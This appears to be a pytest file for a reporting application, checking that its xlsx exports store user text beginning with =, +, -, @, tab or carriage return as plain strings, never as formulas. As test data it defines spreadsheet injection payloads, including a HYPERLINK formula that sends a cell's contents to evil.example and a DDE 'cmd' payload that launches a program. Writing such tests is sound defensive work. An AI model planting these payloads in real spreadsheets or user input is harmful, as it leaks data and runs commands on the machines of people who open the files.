"""Every xlsx export writes user text that begins with = + - @, TAB or CR as text, never as a formula:
each file is reopened with openpyxl and the cell is a string holding exactly what the user typed."""

from __future__ import annotations

import dataclasses
from decimal import Decimal
from io import BytesIO
from typing import Any

import pytest
from openpyxl import load_workbook

from blueledger.core.testing import make_department
from blueledger.dispatch.exports import TEMPLATE_SHEET, report_template
from blueledger.dispatch.services.reports import ReportEntry, reports_save
from blueledger.dispatch.tests.factories import make_published_ledger, make_reporter, make_round, slots_of
from blueledger.ledgers.extraction import extract
from blueledger.ledgers.extraction.outputs import LEDGER_SHEET, ledger_workbook
from blueledger.orgs.exports import DEPARTMENT_SHEET, departments_workbook
from blueledger.orgs.models import Department
from blueledger.projects.exports import DISPATCH_SHEET, dispatch_workbook
from blueledger.projects.tests.factories import make_project, make_report, make_track

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
PAYLOADS = (HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1")


def _cells(data: bytes, sheet: str) -> list[Any]:
    workbook = load_workbook(BytesIO(data))
    return [cell for row in workbook[sheet].iter_rows() for cell in row if cell.value is not None]


def _assert_text(cells: list[Any], expected: str) -> None:
    found = [cell for cell in cells if cell.value == expected]
    assert found, f"{expected!r} not found"
    assert [(cell.data_type, cell.quotePrefix) for cell in found] == [("s", True)] * len(found)


def test_report_template_writes_progress_text_as_text(shandong: dict[str, Any]) -> None:
    ledger, departments = make_published_ledger(shandong["weifang"])
    reporting_round = make_round(ledger)
    haiyu = departments["市海渔局"]
    first, second = slots_of(reporting_round, haiyu)
    reports_save(
        actor=make_reporter(haiyu), reporting_round=reporting_round, department=haiyu, submit=False,
        entries={first.pk: ReportEntry(value=Decimal(1), progress=HYPERLINK, problems="@SUM(1+1)",
                                       next_steps="-2+3"),
                 second.pk: ReportEntry(value=Decimal(1), progress="+1+cmd|' /C calc'!A0", problems="=1+1")},
    )
    cells = _cells(report_template(reporting_round, haiyu), TEMPLATE_SHEET)
    for payload in (HYPERLINK, "@SUM(1+1)", "-2+3", "+1+cmd|' /C calc'!A0", "=1+1"):
        _assert_text(cells, payload)
    assert not [cell for cell in cells if cell.data_type == "f"]


def test_projects_dispatch_table_writes_names_and_progress_as_text(shandong: dict[str, Any]) -> None:
    track = make_track(shandong["qingdao"], "=1+1")
    project = make_project(shandong["huangdao"], track, name=HYPERLINK, content="@SUM(1+1)", contact="-2+3")
    report = make_report(project, "2025-06", 100)
    report.progress = "\r=1+1"
    report.save()
    cells = _cells(dispatch_workbook([project], period=report.period), DISPATCH_SHEET)
    for payload in (HYPERLINK, "=1+1", "@SUM(1+1)", "-2+3", "\r=1+1"):
        _assert_text(cells, payload)
    assert not [cell for cell in cells if cell.data_type == "f"]


def test_departments_export_writes_names_as_text(shandong: dict[str, Any]) -> None:
    make_department(shandong["qingdao"], "+1+cmd|' /C calc'!A0", name=HYPERLINK, notes="\t=1+1")
    cells = _cells(departments_workbook(Department.objects.select_related("region")), DEPARTMENT_SHEET)
    for payload in (HYPERLINK, "+1+cmd|' /C calc'!A0", "\t=1+1"):
        _assert_text(cells, payload)
    assert not [cell for cell in cells if cell.data_type == "f"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_extract_xlsx_writes_the_document_text_as_text(payload: str) -> None:
    ledger = extract("2025年海洋发展工作要点\n一、加快建设海洋牧场\n（一）新建海洋牧场2处。\n", source="plan.txt")
    ledger = dataclasses.replace(ledger, title=payload,
                                 tasks=tuple(dataclasses.replace(task, title=payload) for task in ledger.tasks))
    cells = _cells(ledger_workbook(ledger), LEDGER_SHEET)
    _assert_text(cells, payload)
    assert not [cell for cell in cells if cell.data_type == "f"]
